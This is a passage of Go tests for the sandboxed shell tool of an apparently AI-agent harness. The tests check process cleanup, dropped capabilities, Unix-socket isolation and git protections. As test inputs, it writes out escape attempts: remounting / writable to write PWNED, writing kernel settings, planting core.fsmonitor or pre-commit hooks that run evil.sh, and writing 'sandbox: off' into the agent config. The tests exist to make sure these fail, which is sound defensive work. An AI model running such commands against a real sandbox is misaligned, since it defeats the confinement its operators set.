	t.Logf("kill -9 of the owner of an unconfined command: %d rounds; the shell died with its owner and KillLeftovers killed the 2 processes left in its group each time", rounds)
}

// TestKillLeftoversLeavesOthersAlone: a record is not acted on when it is
// from another machine, or the process group it names now belongs to
// another process, and records of an earlier boot are dropped.
func TestKillLeftoversLeavesOthersAlone(t *testing.T) {
	dir := t.TempDir()
	victim := exec.Command("sleep", "600")
	victim.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = victim.Process.Kill(); _ = victim.Wait() }()
	st, err := procInfo(victim.Process.Pid)
	if err != nil {
		t.Fatal(err)
	}
	boot, err := bootID()
	if err != nil {
		t.Fatal(err)
	}
	host, _ := os.Hostname()
	// A dead owner: a process that has ended.
	dead := exec.Command("true")
	if err := dead.Run(); err != nil {
		t.Fatal(err)
	}
	write := func(name string, rec commandRecord) {
		b, _ := json.Marshal(rec)
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	g := victim.Process.Pid
	write("reused.json", commandRecord{Host: host, Boot: boot, Owner: dead.Process.Pid, OwnerStart: 1, Group: g, GroupStart: st.start + 1})
	write("other-host.json", commandRecord{Host: host + "-other", Boot: boot, Owner: dead.Process.Pid, OwnerStart: 1, Group: g, GroupStart: st.start})
	write("old-boot.json", commandRecord{Host: host, Boot: "an-earlier-boot", Owner: dead.Process.Pid, OwnerStart: 1, Group: g, GroupStart: st.start})
	write("garbage.json", commandRecord{})
	left, err := KillLeftovers(dir)
	if err != nil || len(left) != 0 {
		t.Fatalf("KillLeftovers = %+v, %v; want nothing killed", left, err)
	}
	if err := syscall.Kill(g, 0); err != nil {
		t.Fatalf("the process was killed: %v", err)
	}
	var names []string
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if !slices.Equal(names, []string{"other-host.json"}) {
		t.Errorf("records left: %v, want only the other host's", names)
	}

	// The same group, recorded right, is killed.
	write("right.json", commandRecord{Host: host, Boot: boot, Owner: dead.Process.Pid, OwnerStart: 1, Group: g, GroupStart: st.start, Command: "sleep 600"})
	left, err = KillLeftovers(dir)
	if err != nil || len(left) != 1 || left[0].Killed != 1 || left[0].Group != g {
		t.Fatalf("KillLeftovers = %+v, %v; want the group killed", left, err)
	}
	if err := victim.Wait(); err == nil {
		t.Error("the process ended on its own")
	}
}

// TestCommandSurvivesThreadExits: the parent-death signal of a command is
// tied to the OS thread that started it; threads that end while the
// command runs (a goroutine locked to its thread exits) must not kill it.
func TestCommandSurvivesThreadExits(t *testing.T) {
	const rounds, commands, threads = 3, 8, 200
	for range rounds {
		commandsSurviveThreadExits(t, commands, threads)
	}
	t.Logf("%d rounds of %d commands running while %d threads ended: all survived", rounds, commands, threads)
}

func commandsSurviveThreadExits(t *testing.T, commands, threads int) {
	ws, root, _ := newWorkspace(t)
	rc := NewRunCommand(ws, Options{})
	var wg sync.WaitGroup
	results := make([]string, commands)
	errs := make([]error, commands)
	for i := range commands {
		wg.Go(func() {
			results[i], errs[i] = call(t, rc, map[string]any{"command": "while [ ! -e go ]; do sleep 0.01; done; echo survived"})
		})
	}
	// Wait until every command runs, then end many threads.
	deadline := time.Now().Add(time.Minute)
	for len(shellsIn(root)) < commands && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	var tw sync.WaitGroup
	for range threads {
		tw.Go(func() {
			runtime.LockOSThread()
			// Exiting locked ends the thread.
		})
	}
	tw.Wait()
	files(t, root, map[string]string{"go": ""})
	wg.Wait()
	for i := range commands {
		if errs[i] != nil || !strings.HasPrefix(results[i], "survived\n") {
			t.Errorf("command %d: %q, %v", i, results[i], errs[i])
		}
	}
}

// shellsIn returns the shells running in dir.
func shellsIn(dir string) []int {
	entries, _ := os.ReadDir("/proc")
	var out []int
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		if cwd, err := os.Readlink("/proc/" + e.Name() + "/cwd"); err == nil && cwd == dir {
			if b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline"); err == nil && bytes.HasPrefix(b, []byte("sh\x00-c\x00while")) {
				pid, _ := strconv.Atoi(e.Name())
				out = append(out, pid)
			}
		}
	}
	return out
}

// TestSandboxProbe: Probe says what is missing.
func TestSandboxProbe(t *testing.T) {
	err := (&Sandbox{Bwrap: filepath.Join(t.TempDir(), "no-bwrap")}).Probe(context.Background())
	if !errors.Is(err, ErrNoBwrap) {
		t.Errorf("Probe with no bwrap = %v, want ErrNoBwrap", err)
	}
	fake := filepath.Join(t.TempDir(), "bwrap")
	if err := os.WriteFile(fake, []byte("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	err = (&Sandbox{Bwrap: fake}).Probe(context.Background())
	var pe *ProbeError
	if !errors.As(err, &pe) || !strings.Contains(err.Error(), "uid map: Permission denied") {
		t.Errorf("Probe with a failing bwrap = %v", err)
	}
}

// BenchmarkRunCommand measures what the sandbox adds to a command that
// does nothing: bubblewrap's namespaces and mounts, and the plan of the
// mounts (the default hidden paths resolved).
func BenchmarkRunCommand(b *testing.B) {
	base := b.TempDir()
	if err := os.Mkdir(filepath.Join(base, "ws"), 0o755); err != nil {
		b.Fatal(err)
	}
	ws, err := tool.NewWorkspace(filepath.Join(base, "ws"))
	if err != nil {
		b.Fatal(err)
	}
	home, _ := os.UserHomeDir()
	for _, bc := range []struct {
		name string
		sb   *Sandbox
	}{{"unconfined", nil}, {"sandbox", &Sandbox{Hide: DefaultHidden(home)}}} {
		b.Run(bc.name, func(b *testing.B) {
			if bc.sb != nil {
				if err := bc.sb.Probe(context.Background()); err != nil {
					b.Skip(err)
				}
			}
			rc := NewRunCommand(ws, Options{Sandbox: bc.sb})
			raw := json.RawMessage(`{"command": "true"}`)
			for b.Loop() {
				if out, err := rc.Call(context.Background(), raw); err != nil || exitCodeOf(out) != 0 {
					b.Fatalf("%q, %v", out, err)
				}
			}
		})
	}
}

// TestSandboxDropsCapabilities: a command run by root in the sandbox holds
// no capability, so it cannot remount the file system writable and change
// a file outside the workspace.
func TestSandboxDropsCapabilities(t *testing.T) {
	sb := requireSandbox(t)
	ws, _, _ := newWorkspace(t)
	rc := NewRunCommand(ws, Options{Sandbox: sb})
	out, err := call(t, rc, map[string]any{"command": "grep CapEff: /proc/self/status"})
	if err != nil || !strings.Contains(out, "CapEff:\t0000000000000000\n") {
		t.Errorf("the capabilities of a sandboxed command: %q, %v; want CapEff 0", out, err)
	}
	if os.Geteuid() != 0 {
		t.Skip("the remount needs root, which bubblewrap would leave its capabilities; this test runs as uid", os.Geteuid())
	}
	target := filepath.Join(persistentBase(t), "outside.txt")
	files(t, filepath.Dir(target), map[string]string{"outside.txt": "unchanged\n"})
	for _, command := range []string{
		"mount -o remount,rw,bind / && echo PWNED > " + target,
		"mount -o remount,rw " + filepath.Dir(target) + " && echo PWNED > " + target,
		"mount --bind " + filepath.Dir(target) + " /tmp && echo PWNED > /tmp/outside.txt",
		// Root's file permissions alone would let it set the kernel's
		// settings (core_pattern runs a program as root on the host):
		// this one is written back unchanged, should it get through.
		"v=$(cat /proc/sys/kernel/core_uses_pid) && echo \"$v\" > /proc/sys/kernel/core_uses_pid",
	} {
		out, err := call(t, rc, map[string]any{"command": command})
		if err != nil || exitCodeOf(out) == 0 {
			t.Errorf("%q: %q, %v; want it to fail", command, out, err)
		}
		if p := unchanged(target, "unchanged\n")(); p != "" {
			t.Fatalf("%q changed the host: %s", command, p)
		}
	}
}

// TestSandboxProbeCapabilities: Probe refuses a bubblewrap that leaves
// commands capabilities, and says why.
func TestSandboxProbeCapabilities(t *testing.T) {
	fake := filepath.Join(t.TempDir(), "bwrap")
	if err := os.WriteFile(fake, []byte("#!/bin/sh\necho 000001fffeffffff\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	err := (&Sandbox{Bwrap: fake}).Probe(context.Background())
	if !errors.Is(err, ErrSandboxCapabilities) || !strings.Contains(err.Error(), "000001fffeffffff") || !strings.Contains(err.Error(), "root") {
		t.Errorf("Probe with a bwrap that keeps capabilities = %v, want ErrSandboxCapabilities naming them", err)
	}
	if err := os.WriteFile(fake, []byte("#!/bin/sh\necho 0000000000000000\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := (&Sandbox{Bwrap: fake}).Probe(context.Background()); err != nil {
		t.Errorf("Probe with a bwrap that drops capabilities = %v", err)
	}
}

// TestSandboxControlLinks: a control path that is a symbolic link in the
// workspace, or is reached through one, is refused, since a command could
// put a folder of its own in the link's place; the command does not run.
func TestSandboxControlLinks(t *testing.T) {
	sb := requireSandbox(t)
	for _, tt := range []struct {
		name, link, target, command string
		setup                       map[string]string
	}{
		{".cadre", ".cadre", "../shared-cadre", "rm .cadre && mkdir .cadre && echo 'sandbox: off' > .cadre/config.yaml",
			map[string]string{"../shared-cadre/config.yaml": "model: x\n"}},
		{".cadre to nothing", ".cadre", "../nowhere", "rm .cadre && mkdir .cadre && echo 'sandbox: off' > .cadre/config.yaml", nil},
		{".mcp.json", ".mcp.json", "../shared.json", `rm .mcp.json && echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json`,
			map[string]string{"../shared.json": "{}\n"}},
		{".git/hooks", ".git/hooks", "../githooks", "rm .git/hooks && mkdir .git/hooks && echo evil > .git/hooks/pre-commit",
			map[string]string{".git/HEAD": "ref: refs/heads/main\n", "githooks/keep": ""}},
		{".git/config", ".git/config", "../gitconfig", "rm .git/config && echo '[core] fsmonitor = evil' > .git/config",
			map[string]string{".git/HEAD": "ref: refs/heads/main\n", "gitconfig": "[core]\n"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			base := persistentBase(t)
			root := filepath.Join(base, "ws")
			files(t, root, tt.setup)
			files(t, root, map[string]string{"keep": ""})
			symlink(t, tt.target, filepath.Join(root, tt.link))
			ws, err := tool.NewWorkspace(root)
			if err != nil {
				t.Fatal(err)
			}
			rc := NewRunCommand(ws, Options{Sandbox: sb})
			out, err := call(t, rc, map[string]any{"command": tt.command})
			if err == nil || !strings.Contains(err.Error(), tt.link+" is a symbolic link (to "+tt.target+")") {
				t.Errorf("got %q, %v; want the command refused, naming the link", out, err)
			}
			if fi, err := os.Lstat(filepath.Join(root, tt.link)); err != nil || fi.Mode()&os.ModeSymlink == 0 {
				t.Errorf("%s is no longer the link (%v): the command ran", tt.link, err)
			}
		})
	}

	// A link inside .cadre to where commands may write is refused too:
	// cadre would follow it.
	for _, tt := range []struct{ link, target, command string }{
		{".cadre/config.yaml", "../cadre.yaml", "echo 'sandbox: off' > cadre.yaml"},
		{".cadre/agents", "../agents", "echo evil > agents/a.md"},
	} {
		base := persistentBase(t)
		root := filepath.Join(base, "ws")
		files(t, root, map[string]string{".cadre/keep": "", "cadre.yaml": "model: x\n", "agents/keep": ""})
		symlink(t, tt.target, filepath.Join(root, tt.link))
		ws, err := tool.NewWorkspace(root)
		if err != nil {
			t.Fatal(err)
		}
		out, err := call(t, NewRunCommand(ws, Options{Sandbox: sb}), map[string]any{"command": tt.command})
		if err == nil || !strings.Contains(err.Error(), tt.link+" is a symbolic link (to "+tt.target+")") {
			t.Errorf("%s -> %s: got %q, %v; want the command refused, naming the link", tt.link, tt.target, out, err)
		}
	}

	// Links elsewhere, and the workspace reached through a link, are
	// fine.
	base := persistentBase(t)
	files(t, base, map[string]string{"real/.cadre/config.yaml": "model: x\n", "outside/x": ""})
	symlink(t, filepath.Join(base, "real"), filepath.Join(base, "ws"))
	symlink(t, "../outside", filepath.Join(base, "real/out"))
	ws, err := tool.NewWorkspace(filepath.Join(base, "ws"))
	if err != nil {
		t.Fatal(err)
	}
	out, err := call(t, NewRunCommand(ws, Options{Sandbox: sb}), map[string]any{"command": "ls out"})
	if err != nil || exitCodeOf(out) != 0 {
		t.Errorf("a workspace with a link that is no control path: %q, %v", out, err)
	}
}

// TestSandboxUnixSockets: with the network off, a command cannot reach a
// server's Unix socket in /run, where the system's services keep theirs;
// with it on it can, and a socket in the workspace stays reachable either
// way.
func TestSandboxUnixSockets(t *testing.T) {
	requireSandbox(t)
	var runDir string
	for _, d := range []string{"/run", "/run/user/" + strconv.Itoa(os.Getuid())} {
		if dir, err := os.MkdirTemp(d, "cadre-test-"); err == nil {
			runDir = dir
			break
		}
	}
	if runDir == "" {
		t.Skip("no folder of /run can be written here for a server's socket")
	}
	t.Cleanup(func() { os.RemoveAll(runDir) })
	ws, root, _ := newWorkspace(t)
	serve := func(path string) {
		l, err := net.Listen("unix", path)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				fmt.Fprint(c, "SOCKET-MARKER")
				c.Close()
			}
		}()
	}
	hostSock, wsSock := filepath.Join(runDir, "s.sock"), filepath.Join(root, "s.sock")
	serve(hostSock)
	serve(wsSock)
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		network bool
		sock    string
		want    string
	}{
		{false, hostSock, "dial failed"},
		{false, wsSock, "got: SOCKET-MARKER"},
		{true, hostSock, "got: SOCKET-MARKER"},
	} {
		rc := NewRunCommand(ws, Options{Sandbox: &Sandbox{Network: tt.network, ReadOnly: []string{filepath.Dir(exe)}}})
		out, err := call(t, rc, map[string]any{"command": "CADRE_BUILTIN_HELPER=dialunix CADRE_HELPER_SOCK=" + tt.sock + " '" + exe + "'"})
		if err != nil || !strings.Contains(out, tt.want) || (tt.want == "dial failed" && strings.Contains(out, "MARKER")) {
			t.Errorf("network %v, %s: got %q, %v; want %q", tt.network, tt.sock, out, err, tt.want)
		}
	}
}

// TestSandboxGitControls: a command cannot plant git configuration that
// runs a program (core.fsmonitor) the next time git runs on the host, by
// any of the ways git finds its configuration: .git/commondir, a
// worktree's .git file, a new repository where git would find a parent's,
// an include, a renamed folder above a control path; a .git that is a
// symbolic link, or an include of a file in the workspace, is refused.
func TestSandboxGitControls(t *testing.T) {
	sb := requireSandbox(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	gitHome := t.TempDir()
	git := func(t *testing.T, dir string, args ...string) string {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "HOME="+gitHome, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@x",
			"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@x")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v in %s: %v\n%s", args, dir, err, out)
		}
		return string(out)
	}
	for _, tt := range []struct {
		name string
		// setup makes the layout under base and returns the workspace.
		setup   func(t *testing.T, base string) string
		command string
		refused string // a part of the refusal, when the command must not run
	}{
		{name: "commondir", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "ws")
			return filepath.Join(base, "ws")
		}, command: "cp -r .git evilg && git --git-dir=evilg config core.fsmonitor \"$PWD/evil.sh\" && echo \"$PWD/evilg\" > .git/commondir",
			// The git folder the command made is named too (see plantedPrograms).
			refused: "evilg: core.fsmonitor"},
		{name: "config.worktree", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "ws")
			return filepath.Join(base, "ws")
		}, command: "printf '[core]\\n\\tfsmonitor = %s/evil.sh\\n' \"$PWD\" > .git/config.worktree"},
		{name: "worktree .git file", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "main")
			git(t, filepath.Join(base, "main"), "commit", "-q", "--allow-empty", "-m", "first")
			git(t, filepath.Join(base, "main"), "worktree", "add", "-q", filepath.Join(base, "ws"))
			return filepath.Join(base, "ws")
		}, command: "git init -q evilg && git --git-dir=evilg/.git config core.fsmonitor \"$PWD/evil.sh\" && echo 'gitdir: evilg/.git' > .git",
			// The repository the command made is named too (see plantedPrograms).
			refused: "evilg: core.fsmonitor"},
		{name: "no .git below a repository", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "repo")
			files(t, base, map[string]string{"repo/ws/keep": ""})
			return filepath.Join(base, "repo/ws")
		}, command: "git init -q . && git config core.fsmonitor \"$PWD/evil.sh\""},
		{name: "renamed folder above hooksPath", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "ws")
			git(t, filepath.Join(base, "ws"), "config", "core.hooksPath", "tools/hooks")
			files(t, base, map[string]string{"ws/tools/hooks/keep": ""})
			return filepath.Join(base, "ws")
		}, command: "mv tools tools-old && mkdir -p tools/hooks && printf '#!/bin/sh\\n%s/evil.sh\\n' \"$PWD\" > tools/hooks/pre-commit && " +
			"chmod +x tools/hooks/pre-commit"},
		{name: "missing hooksPath", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "ws")
			git(t, filepath.Join(base, "ws"), "config", "core.hooksPath", ".githooks")
			return filepath.Join(base, "ws")
		}, command: "mkdir -p .githooks && printf '#!/bin/sh\\n%s/evil.sh\\n' \"$PWD\" > .githooks/pre-commit && chmod +x .githooks/pre-commit"},
		{name: "renamed modules", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "ws")
			if err := os.MkdirAll(filepath.Join(base, "ws/.git/modules"), 0o755); err != nil {
				t.Fatal(err)
			}
			git(t, base, "init", "-q", "--separate-git-dir", filepath.Join(base, "ws/.git/modules/lib"), filepath.Join(base, "ws/lib"))
			return filepath.Join(base, "ws")
		}, command: "mv .git/modules .git/modules-old && mkdir -p .git/modules && cp -r .git/modules-old/lib .git/modules/lib && " +
			"git --git-dir=.git/modules/lib config core.fsmonitor \"$PWD/evil.sh\""},
		{name: "include", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "ws")
			git(t, filepath.Join(base, "ws"), "config", "include.path", "../.gitconfig")
			return filepath.Join(base, "ws")
		}, command: "printf '[core]\\n\\tfsmonitor = %s/evil.sh\\n' \"$PWD\" > .gitconfig", refused: "includes"},
		{name: "symlinked .git", setup: func(t *testing.T, base string) string {
			git(t, base, "init", "-q", "--bare", "real.git")
			files(t, base, map[string]string{"ws/keep": ""})
			symlink(t, "../real.git", filepath.Join(base, "ws/.git"))
			return filepath.Join(base, "ws")
		}, command: "rm .git && git init -q . && git config core.fsmonitor \"$PWD/evil.sh\"", refused: ".git in the workspace is a symbolic link"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			base := persistentBase(t)
			root := tt.setup(t, base)
			marker := filepath.Join(base, "ran")
			files(t, root, map[string]string{"evil.sh": "#!/bin/sh\necho ran > " + marker + "\n"})
			if err := os.Chmod(filepath.Join(root, "evil.sh"), 0o755); err != nil {
				t.Fatal(err)
			}
			ws, err := tool.NewWorkspace(root)
			if err != nil {
				t.Fatal(err)
			}
			rc := NewRunCommand(ws, Options{Sandbox: sb})
			out, err := call(t, rc, map[string]any{"command": tt.command})
			switch {
			case tt.refused != "":
				if err == nil || !strings.Contains(err.Error(), tt.refused) {
					t.Errorf("got %q, %v; want the command refused (%s)", out, err, tt.refused)
				}
			case err != nil:
				t.Fatalf("call: %v", err)
			case exitCodeOf(out) == 0:
				t.Errorf("the command succeeded:\n%s", out)
			}
			// What git may do next on the host, in the workspace and in
			// its submodule: read per-worktree configuration (as git
			// sparse-checkout turns on), show the status, commit (which
			// runs the pre-commit hook).
			for _, dir := range []string{root, filepath.Join(root, "lib")} {
				for _, args := range [][]string{{"config", "extensions.worktreeConfig", "true"}, {"status"}, {"commit", "-q", "--allow-empty", "-m", "next"}} {
					cmd := exec.Command("git", args...)
					cmd.Dir = dir
					cmd.Env = append(os.Environ(), "HOME="+gitHome, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@x",
						"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@x")
					_ = cmd.Run()
				}
			}
			if _, err := os.Stat(marker); err == nil {
				t.Errorf("git on the host ran the program the command planted:\n%s", out)
			}
		})
	}
}

// TestSandboxGitInit: in a workspace with no repository in it or above
// it, a command may make one, and git works in a sandboxed repository.
func TestSandboxGitInit(t *testing.T) {
	sb := requireSandbox(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	root := filepath.Join(persistentBase(t), "ws")
	files(t, root, map[string]string{"f.txt": "x\n"})
	ws, err := tool.NewWorkspace(root)
	if err != nil {
		t.Fatal(err)
	}
	rc := NewRunCommand(ws, Options{Sandbox: sb, Env: append(os.Environ(), "HOME="+t.TempDir(), "GIT_CONFIG_NOSYSTEM=1")})
	for _, command := range []string{
		"git init -q . && git add f.txt",
		"git -c user.name=t -c user.email=t@x commit -q -m first && git status --short && git log --oneline",
	} {
		out, err := call(t, rc, map[string]any{"command": command})
		if err != nil || exitCodeOf(out) != 0 {
			t.Fatalf("%q: %q, %v", command, out, err)
		}
	}
	// The placeholders stay, holding what git takes as their absence
	// (removing them could lift another process's command's mounts).
	for p, want := range map[string]string{".git/commondir": ".\n", ".git/config.worktree": ""} {
		if b, err := os.ReadFile(filepath.Join(root, p)); err != nil || string(b) != want {
			t.Errorf("%s after the commands: %q, %v; want %q", p, b, err, want)
		}
	}
}

// TestProtectProcess: after ProtectProcess, a child running as the same
// user (not root) cannot read its parent's environment; before, it can.
// Run as root, the test runs the parent and the child as nobody.
func TestProtectProcess(t *testing.T) {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	var cred *syscall.Credential
	dir := t.TempDir()
	if os.Geteuid() == 0 {
		// A copy of the test binary that nobody may run.
		dir = persistentBase(t)
		if err := os.Chmod(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(exe)
		if err != nil {
			t.Fatal(err)
		}
		exe = filepath.Join(dir, "builtin.test")
		if err := os.WriteFile(exe, b, 0o755); err != nil {
			t.Fatal(err)
		}
		cred = &syscall.Credential{Uid: 65534, Gid: 65534}
	}
	marker := fmt.Sprintf("ENV-MARKER-%d", os.Getpid())
	for _, protect := range []bool{false, true} {
		cmd := exec.Command(exe)
		cmd.Dir = dir
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: cred}
		p := "0"
		if protect {
			p = "1"
		}
		cmd.Env = append(os.Environ(), "CADRE_BUILTIN_HELPER=environ", "CADRE_HELPER_PROTECT="+p, "CADRE_HELPER_MARKER="+marker)
		out, err := cmd.CombinedOutput()
		if err != nil && cred != nil && len(out) == 0 {
			t.Skipf("cannot run the test as nobody (uid 65534) here: %v", err)
		}
		if err != nil || !strings.Contains(string(out), "child read:") {
			t.Fatalf("protect %v: %q, %v", protect, out, err)
		}
		if got := strings.Contains(string(out), "the marker: true"); got == protect {
			t.Errorf("protect %v: the child read its parent's environment: %v; want %v\n%s", protect, got, !protect, out)
		}
	}
}

// TestSandboxControlReplacedDuringCommand: when a program outside the
// sandbox replaces a read-only control file while a command runs (git
// config writes a new file and renames it over the old), the kernel lifts
// the sandbox's mount on it and the command can write the new file; cadre
// cannot prevent it, so the call says so instead of succeeding quietly.
func TestSandboxControlReplacedDuringCommand(t *testing.T) {
	sb := requireSandbox(t)
	root := filepath.Join(persistentBase(t), "ws")
	files(t, root, map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n\tbare = false\n"})
	ws, err := tool.NewWorkspace(root)
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	rc := NewRunCommand(ws, Options{Sandbox: sb})
	// The command says it has started, waits for the go-ahead (at most
	// about 20 s), then tries to write git's configuration.
	command := `touch started; i=0; while [ ! -e go ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; ` +
		`echo '[core] fsmonitor = evil' >> .git/config && echo WROTE`
	type result struct {
		out string
		err error
	}
	done := make(chan result, 1)
	go func() {
		out, err := call(t, rc, map[string]any{"command": command})
		done <- result{out, err}
	}()
	for i := 0; ; i++ {
		if _, err := os.Stat(filepath.Join(root, "started")); err == nil {
			break
		}
		if i > 2000 {
			t.Fatal("the command did not start")
		}
		time.Sleep(10 * time.Millisecond)
	}
	// As git config does on the host: a new file renamed over the old.
	files(t, root, map[string]string{".git/config.lock": "[core]\n\tbare = false\n[user]\n\tname = t\n"})
	if err := os.Rename(filepath.Join(root, ".git/config.lock"), filepath.Join(root, ".git/config")); err != nil {
		t.Fatal(err)
	}
	files(t, root, map[string]string{"go": ""})
	r := <-done
	if r.err == nil || !strings.Contains(r.err.Error(), ".git/config was replaced") || !strings.Contains(r.err.Error(), "review it") {
		t.Fatalf("got %q, %v; want an error saying .git/config was replaced", r.out, r.err)
	}
}
